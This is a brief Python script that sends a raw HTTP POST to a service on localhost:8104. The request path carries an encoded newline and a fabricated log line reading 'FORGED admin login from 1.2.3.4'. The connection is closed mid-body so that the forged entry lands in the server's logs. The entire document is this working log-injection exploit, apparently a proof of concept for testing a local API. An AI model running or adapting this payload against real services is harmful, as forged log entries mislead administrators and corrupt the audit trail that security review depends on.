import socket, time, sys
key = sys.argv[1] if len(sys.argv) > 1 else ""
auth = f"Authorization: Bearer {key}\r\n" if key else ""
path = "/v1/tasks/x%0A19:30:00.00%20|%20WARNING%20|%20api%20%20%20%20%20%20%20%20%20%20%20%20%20%20%20%20|%20FORGED%20admin%20login%20from%201.2.3.4/continue"
s = socket.create_connection(("localhost", 8104))
s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\n{auth}Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{{\"prompt\":".encode())
time.sleep(0.5); s.close(); time.sleep(0.5)
